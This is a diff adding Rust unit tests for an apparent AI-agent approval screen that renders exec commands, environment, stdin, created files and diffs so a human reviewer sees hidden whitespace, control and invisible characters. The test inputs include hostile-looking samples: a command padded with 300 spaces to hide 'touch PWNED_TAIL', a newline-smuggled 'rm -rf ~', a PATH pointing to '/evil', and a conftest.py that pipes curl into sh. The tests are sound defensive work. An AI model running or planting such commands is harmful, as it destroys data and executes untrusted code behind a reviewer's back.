@@ -1,0 +1,161 @@
+use super::*;
+use ansa_sessions::protocol::{CreatedFile, DiffLine, EnvShown, FileDiff, Withheld};
+use ansa_sessions::{CallId, RequestId};
+
+fn request() -> ApprovalRequest {
+    ApprovalRequest {
+        request_id: RequestId(1),
+        call_id: CallId("c1".into()),
+        tool: "exec".into(),
+        action: "v:1".into(),
+        digest: "00".repeat(32),
+        summary: "run sh".into(),
+        argv: Vec::new(),
+        cwd: None,
+        env: Vec::new(),
+        stdin: None,
+        diffs: Vec::new(),
+        actions: Vec::new(),
+        created: Vec::new(),
+        withheld: None,
+    }
+}
+
+fn texts(rows: &[Row]) -> Vec<String> {
+    rows.iter()
+        .map(|r| format!("{}{}", r.mark, r.text))
+        .collect()
+}
+
+#[test]
+fn runs_of_whitespace_and_invisible_characters_are_made_visible() {
+    assert_eq!(visible("a b"), "a b");
+    assert_eq!(visible("a  b"), "a··b");
+    assert_eq!(visible(&format!("a{}b", " ".repeat(8))), "a········b");
+    assert_eq!(
+        visible(&format!("echo hi{}; touch X", " ".repeat(300))),
+        "echo hi␠×300; touch X"
+    );
+    assert_eq!(visible("trailing "), "trailing·");
+    assert_eq!(visible("\tindented"), "→indented");
+    assert_eq!(visible("esc\x1b[2Kx"), "esc\\x1b[2Kx");
+    assert_eq!(visible("cr\r"), "cr\\x0d");
+    assert_eq!(visible("nb\u{a0}sp"), "nb\\u{a0}sp");
+    assert_eq!(visible("zero\u{200b}width"), "zero\\u{200b}width");
+    assert_eq!(visible("rtl\u{202e}txt"), "rtl\\u{202e}txt");
+    assert_eq!(visible("csi\u{9b}31m"), "csi\\u{9b}31m");
+    assert_eq!(visible("naïve café 日本"), "naïve café 日本");
+}
+
+#[test]
+fn an_exec_shows_its_whole_command_cwd_env_and_stdin() {
+    let mut r = request();
+    r.argv = vec![
+        "sh".into(),
+        "-c".into(),
+        format!("echo hi{}; touch PWNED_TAIL", " ".repeat(300)),
+    ];
+    r.cwd = Some(".".into());
+    r.env = vec![
+        EnvShown {
+            name: "PATH".into(),
+            value: Some("/evil:/usr/bin".into()),
+        },
+        EnvShown {
+            name: "HOME".into(),
+            value: None,
+        },
+    ];
+    r.stdin = Some("import os\n\tos.system('x')".into());
+    assert_eq!(
+        texts(&rows(&r)),
+        vec![
+            "$ sh -c 'echo hi␠×300; touch PWNED_TAIL'",
+            "in . (the workspace root)",
+            "env PATH=/evil:/usr/bin",
+            "env unset HOME",
+            "stdin (25 bytes, 2 lines):",
+            "│ import os",
+            "│ →os.system('x')",
+            "(no newline at the end)",
+        ]
+    );
+}
+
+#[test]
+fn a_newline_inside_an_argument_starts_a_marked_row() {
+    let mut r = request();
+    r.argv = vec!["sh".into(), "-c".into(), "true\nrm -rf ~".into()];
+    assert_eq!(texts(&rows(&r)), vec!["$ sh -c 'true↵", "  rm -rf ~'"]);
+}
+
+#[test]
+fn created_files_diffs_and_withheld_actions_are_all_shown() {
+    let mut r = request();
+    r.actions = vec!["create conftest.py".into(), "move a → b".into()];
+    r.created = vec![CreatedFile {
+        path: "conftest.py".into(),
+        content: "import os\nos.system('curl x | sh')\n".into(),
+    }];
+    r.diffs = vec![FileDiff {
+        path: "app.py".into(),
+        added: 1,
+        removed: 1,
+        lines: vec![
+            DiffLine {
+                sign: DiffSign::Hunk,
+                text: "line 3".into(),
+            },
+            DiffLine {
+                sign: DiffSign::Context,
+                text: "def f():".into(),
+            },
+            DiffLine {
+                sign: DiffSign::Removed,
+                text: "    return 1".into(),
+            },
+            DiffLine {
+                sign: DiffSign::Added,
+                text: "    return 2".into(),
+            },
+        ],
+    }];
+    r.withheld = Some(Withheld::Unshowable {
+        what: "stdin from the retained value @3".into(),
+    });
+    assert_eq!(
+        texts(&rows(&r)),
+        vec![
+            "create conftest.py",
+            "move a → b",
+            "content of conftest.py (35 bytes, 2 lines):",
+            "│ import os",
+            "│ os.system('curl x | sh')",
+            "edit app.py (+1 −1)",
+            "@@ line 3",
+            "  def f():",
+            "- ····return 1",
+            "+ ····return 2",
+            "stdin from the retained value @3 cannot be shown; the action can only be denied",
+        ]
+    );
+}
+
+#[test]
+fn an_old_record_that_kept_only_the_first_diff_lines_says_so() {
+    let mut r = request();
+    r.diffs = vec![FileDiff {
+        path: "a".into(),
+        added: 30,
+        removed: 0,
+        lines: vec![DiffLine {
+            sign: DiffSign::Added,
+            text: "x".into(),
+        }],
+    }];
+    let shown = texts(&rows(&r));
+    assert_eq!(
+        shown.last().map(String::as_str),
+        Some("… 29 more changed lines were not recorded")
+    );
+}
